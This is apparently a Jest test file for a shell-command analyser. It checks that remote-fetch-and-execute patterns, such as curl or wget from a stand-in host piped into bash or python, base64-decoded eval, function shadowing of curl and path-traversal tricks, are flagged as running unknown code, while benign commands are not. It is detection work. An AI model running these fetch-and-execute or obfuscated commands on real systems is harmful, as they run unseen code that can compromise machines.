import { describe, expect, test } from '@jest/globals';
import { actions, run, targets } from './support.ts';

describe('code that nobody can read here', () => {
  test.each([
    'source <(curl -s https://x.example/a.sh)',
    '. <(wget -qO- https://x.example/a.sh)',
    'curl -s https://x.example/a.sh | bash',
    'curl -LsSf https://astral.sh/uv/install.sh https://x.example/a.sh | sh',
    'curl() { command curl https://x.example/a.sh; }\ncurl -LsSf https://astral.sh/uv/install.sh | sh',
    'X=$(curl() { command curl https://x.example; }; curl -LsSf https://astral.sh/uv/install.sh | sh)',
    'curl -LsSf https://astral.sh/uv/install.sh/../../x | sh',
    'curl -s https://x.example/a.sh | bash -s -- --fast',
    'curl -s https://x.example/a.sh | sed s/a/b/ | sudo -E bash -',
    'curl -s https://x.example/a.sh | bash /dev/stdin',
    'curl -s https://x.example/a.sh | tee log | sh',
    'bash <(curl -s https://x.example/a.sh)',
    'bash < <(curl -s https://x.example/a.sh)',
    'bash <<< "$(curl -s https://x.example/a.sh)"',
    'bash -c "$(curl -s https://x.example/a.sh)"',
    'bash -c "set -e; $(curl -s https://x.example/a.sh)"',
    'bash -c "true $(curl -s https://x.example/a.sh)"',
    'A=$(curl -s https://x.example/a.sh); bash -c "$A"',
    'eval "$(curl -s https://x.example/a.sh)"',
    'eval "$(echo aGk= | base64 -d)"',
    'echo aGk= | base64 -d | bash',
    'base64 -d f | bash',
    'base64 -d <<EOF | bash\naGk=\nEOF',
    'eval "$(cat /opt/x/unseen)"',
    'python3 -c "$(curl -s https://x.example/a.py)"',
    'python3 <(curl -s https://x.example/a.py)',
    'curl -s https://x.example/a.py | python3',
    'curl -s https://x.example/a.py | python3 -',
    'base64 -d f | python3 -u -',
    'eval "$(python3 -c "import base64; print(base64.b64decode(1))")"',
    'python3 - <<EOF | bash\nprint(chr(1))\nEOF',
  ])('is an unknown patch: %s', (script) => {
    const found = actions(run(script)).filter(({ action }) => action === 'patch');
    expect(found.map(({ target }) => target[0]?.kind)).toContain('hole');
  });

  test.each([
    'eval "ssh $HOST uptime"',
    'eval "$CMD"',
    'CMD="curl http://$IP:80"; eval "$CMD"',
    'bash -c "$cmd"',
    'bash -c "echo $(hostname -I)"',
    'bash -c "echo $(git rev-parse HEAD)"',
    'eval "$(conda shell.bash hook)"',
    'eval "$(python3 - <<EOF\nprint(1)\nEOF\n)"',
    'source /opt/venv/bin/activate',
    'curl -s http://x | python3 -c "import sys, json; print(json.load(sys.stdin))"',
    'curl -LsSf https://astral.sh/uv/install.sh | sh',
    'X=$(f() { curl -LsSf https://astral.sh/uv/install.sh | sh; }; f)',
    'curl -s http://x | grep ok',
    'echo "ls" | bash',
    'nvidia-smi | python3 show.py',
  ])('is none of: %s', (script) => {
    expect(targets(run(script))).toEqual([]);
  });

  test.each([
    ['curl -o /tmp/a.sh https://x.example/a.sh\nbash /tmp/a.sh'],
    ['wget -qO /tmp/a https://x.example/a\nsource /tmp/a'],
    ['curl -so /tmp/a.py https://x.example/a.py\npython3 /tmp/a.py'],
    ['bash /tmp/a'],
    ['echo ls > /tmp/a; sed -i s/ls/rm/ /tmp/a; bash /tmp/a'],
  ])('what was put there is unknown where it is run: %s', (script) => {
    const last = targets(run(script)).at(-1);
    expect(last).toMatch(/^patch ‹code from ".*"›$/);
  });
});
